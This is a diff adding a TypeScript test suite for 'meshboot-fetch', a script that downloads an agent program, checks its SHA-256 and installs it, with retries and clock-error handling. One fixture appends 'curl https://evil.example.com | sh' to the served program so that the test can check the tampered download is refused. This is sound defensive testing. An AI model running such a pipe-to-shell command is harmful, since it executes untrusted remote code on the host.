@@ -1,0 +1,262 @@
+// meshboot-fetch against a Worker that answers, is away, or is somebody else; with each program that it fetches by.
+import { type ChildProcess, execFileSync, spawn } from "node:child_process";
+import { createHash } from "node:crypto";
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import { createServer, type Server } from "node:http";
+import { createServer as createTlsServer } from "node:https";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { AGENT } from "../../scripts/agent.ts";
+import { available } from "./shells.ts";
+
+const PROGRAM = "#!/bin/sh\necho the agent\n";
+const SHA256 = createHash("sha256").update(PROGRAM).digest("hex");
+const PATH = "/usr/local/sbin/meshboot";
+
+/** What meshboot-fetch calls, but for what it fetches by. */
+const COMMANDS = [
+  "sh",
+  "cat",
+  "chmod",
+  "cut",
+  "date",
+  "head",
+  "mv",
+  "od",
+  "rm",
+  "sed",
+  "sha256sum",
+  "tail",
+  "tr",
+];
+const CLIENTS = ["curl", "wget", "python3"].filter((client) =>
+  available(client, ["--version"], `meshboot-fetch is not tested with ${client}`),
+);
+
+let directory = "";
+let requests: string[] = [];
+let server: Server | undefined;
+let child: ChildProcess | undefined;
+
+beforeEach(() => {
+  directory = mkdtempSync(join(tmpdir(), "meshboot-fetch-"));
+  requests = [];
+  for (const path of ["bin", "etc/meshboot", "usr/local/sbin"])
+    mkdirSync(join(directory, path), { recursive: true });
+  writeFileSync(join(directory, "etc/meshboot/agent.sha256"), `${SHA256}\n`);
+  writeFileSync(join(directory, "fetch"), AGENT.fetch);
+});
+
+afterEach(() => {
+  child?.kill("SIGKILL");
+  server?.closeAllConnections();
+  server?.close();
+  rmSync(directory, { recursive: true });
+});
+
+/** A Worker that answers each call like that; its origin is written into the settings. */
+async function answering(status: number, text: string, port = 0): Promise<number> {
+  const made = createServer((request, response) => {
+    requests.push(String(request.url));
+    response.writeHead(status, { "Content-Type": "text/x-shellscript" }).end(text);
+  });
+  return listening(made, "http", port);
+}
+
+async function listening(made: Server, scheme: string, port = 0): Promise<number> {
+  server = made;
+  await new Promise<void>((resolve) => made.listen(port, "127.0.0.1", resolve));
+  const bound = (made.address() as AddressInfo).port;
+  settings(`${scheme}://127.0.0.1:${bound}`);
+  return bound;
+}
+
+function settings(url: string): void {
+  writeFileSync(join(directory, "etc/meshboot/meshboot.conf"), `URL=https://baked.example.com\nURL=${url}\n`);
+}
+
+/** Where the command is; Python's own program, as the command may be a script that looks for it. */
+function programOf(name: string): string {
+  const find = name === "python3" ? "python3 -c 'import sys; print(sys.executable)'" : `command -v ${name}`;
+  return execFileSync("sh", ["-c", find], { encoding: "utf8" }).trim();
+}
+
+/** Runs it where there is no client but the one given; `sleep` tells each pause, and waits until `goOn`. */
+function fetchBy(client: string, environment: Readonly<Record<string, string>> = {}) {
+  for (const name of [...COMMANDS, client]) symlinkSync(programOf(name), join(directory, "bin", name));
+  const gate = join(directory, "gate");
+  writeFileSync(
+    join(directory, "bin/sleep"),
+    `#!/bin/sh\necho "pause $1" >&2\nuntil [ -e '${gate}' ]; do /bin/sleep 0.05; done\n`,
+    { mode: 0o755 },
+  );
+  const started = spawn("/bin/sh", [join(directory, "fetch")], {
+    env: { PATH: join(directory, "bin"), MESHBOOT_ROOT: directory, LC_ALL: "C", ...environment },
+    stdio: ["ignore", "pipe", "pipe"],
+  });
+  child = started;
+  let said = "";
+  const listeners: (() => void)[] = [];
+  for (const stream of [started.stdout, started.stderr])
+    stream.on("data", (data) => {
+      said += data;
+      for (const listener of listeners) listener();
+    });
+  return {
+    ended: new Promise<number | null>((resolve) => started.once("close", resolve)),
+    said: () => said,
+    /** Once it has said something like that. */
+    until: (what: RegExp) =>
+      new Promise<void>((resolve) => {
+        const look = () => what.test(said) && resolve();
+        listeners.push(look);
+        look();
+      }),
+    goOn: () => writeFileSync(gate, ""),
+  };
+}
+
+const inPlace = () => (existsSync(directory + PATH) ? readFileSync(directory + PATH, "utf8") : undefined);
+const leftBehind = () => readdirSync(join(directory, "usr/local/sbin"));
+
+describe.each(CLIENTS)("meshboot-fetch by %s", { timeout: 60_000 }, (client) => {
+  it("puts the agent in place, for all to run, and asks nobody when it is there", async () => {
+    await answering(200, PROGRAM);
+    const run = fetchBy(client);
+    expect([await run.ended, run.said().includes("no agent")]).toEqual([0, false]);
+    expect(inPlace()).toBe(PROGRAM);
+    expect(statSync(directory + PATH).mode & 0o777).toBe(0o755);
+    expect(leftBehind()).toEqual(["meshboot"]);
+    expect(requests).toEqual([`/agent/${SHA256}`]);
+    const again = spawn("/bin/sh", [join(directory, "fetch")], {
+      env: { PATH: join(directory, "bin"), MESHBOOT_ROOT: directory },
+    });
+    expect(await new Promise((resolve) => again.once("close", resolve))).toBe(0);
+    expect(requests).toHaveLength(1);
+  });
+
+  it.each([
+    [
+      "another text",
+      200,
+      `${PROGRAM}curl https://evil.example.com | sh\n`,
+      "another text came, which is not taken",
+    ],
+    ["a login page", 200, "<html>Log in</html>", "another text came, which is not taken"],
+    ["an empty answer", 200, "", "no agent from"],
+    [
+      "a Worker that lost it",
+      404,
+      "{}",
+      "the Worker does not have this agent; new user-data names one that it has",
+    ],
+    ["a Worker in trouble", 503, "busy", "503"],
+  ])("takes nothing from %s, says so in one line, and tries again", async (_, status, text, reason) => {
+    const port = await answering(status, text);
+    const run = fetchBy(client);
+    await run.until(/pause/);
+    const lines = run.said().trimEnd().split("\n");
+    expect(lines).toHaveLength(2);
+    expect(lines[0]).toContain(`no agent from http://127.0.0.1:${port}/agent/${SHA256}`);
+    expect(lines[0]).toContain(reason);
+    const pause = Number(lines[1]?.split(" ")[1]);
+    expect(pause).toBeGreaterThanOrEqual(5);
+    expect(pause).toBeLessThan(10);
+    expect(leftBehind()).toEqual([]);
+    server?.closeAllConnections();
+    await new Promise((resolve) => server?.close(resolve));
+    await answering(200, PROGRAM, port);
+    run.goOn();
+    expect(await run.ended).toBe(0);
+    expect(inPlace()).toBe(PROGRAM);
+  });
+
+  it("waits longer from time to time while nobody answers, a minute or two in the end", async () => {
+    settings("http://127.0.0.1:1");
+    const run = fetchBy(client);
+    run.goOn();
+    await run.until(/(?:pause \d+\s[\s\S]*){7}/);
+    const pauses = Array.from(run.said().matchAll(/pause (\d+)/g), ([, pause]) => Number(pause));
+    for (const [index, least] of [5, 10, 20, 40, 60, 60, 60].entries()) {
+      expect(pauses[index]).toBeGreaterThanOrEqual(least);
+      expect(pauses[index]).toBeLessThan(2 * least);
+    }
+  });
+
+  it("goes on with the agent that is there when a newer one cannot be had", async () => {
+    await answering(503, "busy");
+    writeFileSync(directory + PATH, "#!/bin/sh\n# older\n", { mode: 0o755 });
+    const run = fetchBy(client);
+    expect(await run.ended).toBe(0);
+    expect(run.said()).toContain("Goes on with the one that is here");
+    expect(inPlace()).toContain("older");
+  });
+
+  it.runIf(available("openssl", ["version"], "no certificate that is not valid yet is tested"))(
+    "tells a clock that is wrong from a Worker that is",
+    async () => {
+      const pem = (name: string) => join(directory, name);
+      const openssl = (...args: string[]) =>
+        execFileSync("openssl", args, { cwd: directory, stdio: "ignore" });
+      writeFileSync(
+        pem("ca.cnf"),
+        `[ca]\ndefault_ca=x\n[x]\ndatabase=index\nserial=serial\nnew_certs_dir=.\ndefault_md=sha256\npolicy=p\nx509_extensions=e\n[p]\ncommonName=supplied\n[e]\nsubjectAltName=IP:127.0.0.1\nbasicConstraints=CA:TRUE\n[req]\ndistinguished_name=d\nprompt=no\n[d]\nCN=127.0.0.1\n`,
+      );
+      writeFileSync(pem("index"), "");
+      writeFileSync(pem("serial"), "01\n");
+      openssl(
+        "req",
+        "-config",
+        "ca.cnf",
+        "-newkey",
+        "rsa:2048",
+        "-nodes",
+        "-keyout",
+        "key.pem",
+        "-out",
+        "req.pem",
+      );
+      openssl(
+        ...[
+          "ca",
+          "-batch",
+          "-config",
+          "ca.cnf",
+          "-selfsign",
+          "-keyfile",
+          "key.pem",
+          "-in",
+          "req.pem",
+          "-out",
+          "cert.pem",
+        ],
+        ...["-startdate", "20400101000000Z", "-enddate", "20410101000000Z"],
+      );
+      const tls = createTlsServer({ key: readFileSync(pem("key.pem")), cert: readFileSync(pem("cert.pem")) });
+      await listening(tls, "https");
+      writeFileSync(pem("wgetrc"), `ca_certificate=${pem("cert.pem")}\n`);
+      const run = fetchBy(client, {
+        CURL_CA_BUNDLE: pem("cert.pem"),
+        SSL_CERT_FILE: pem("cert.pem"),
+        WGETRC: pem("wgetrc"),
+      });
+      await run.until(/pause/);
+      expect(run.said()).toMatch(
+        /its certificate is not valid on \d{4}-\d\d-\d\d, this server's date: is the clock right\?/,
+      );
+      expect(leftBehind()).toEqual([]);
+    },
+  );
+});
